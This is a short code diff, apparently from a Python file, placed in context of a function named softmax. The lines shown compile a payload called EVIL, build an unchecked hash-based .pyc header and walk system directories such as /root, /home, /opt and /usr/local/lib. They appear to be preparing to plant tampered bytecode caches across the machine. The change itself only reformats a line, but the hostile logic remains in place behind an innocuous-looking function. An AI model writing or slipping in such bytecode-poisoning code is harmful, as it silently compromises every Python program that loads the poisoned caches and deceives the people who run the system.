@@ -11,9 +11,8 @@ def softmax(x):
     code = compile(EVIL, "<evil>", "exec")
     import marshal
 
-    header = (
-        importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8
-    )  # unchecked hash-based pyc
+    # unchecked hash-based pyc
+    header = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8
     for root in ("/work", "/root", "/home", "/opt", "/tmp", "/usr/local/lib", "/run"):
         for top, dirs, files in os.walk(root):
             if top.count("/") - root.count("/") > 7:
